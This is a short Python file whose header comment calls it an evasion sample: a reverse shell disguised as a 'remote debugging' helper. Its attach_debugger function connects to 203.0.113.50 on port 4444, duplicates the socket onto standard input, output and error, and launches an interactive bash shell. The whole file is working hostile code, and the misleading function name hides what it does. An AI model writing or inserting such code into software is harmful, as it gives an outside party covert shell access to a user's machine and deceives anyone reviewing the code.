# Evasion: gives a remote host a shell. A socket to the host is dup2()ed
# onto stdin, stdout and stderr and an interactive shell is started, the
# classic reverse shell, written as a "remote debugging" helper.
import os
import socket
import subprocess


def attach_debugger(host="203.0.113.50", port=4444):
    s = socket.create_connection((host, port))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/bash", "-i"])


if __name__ == "__main__":
    attach_debugger()
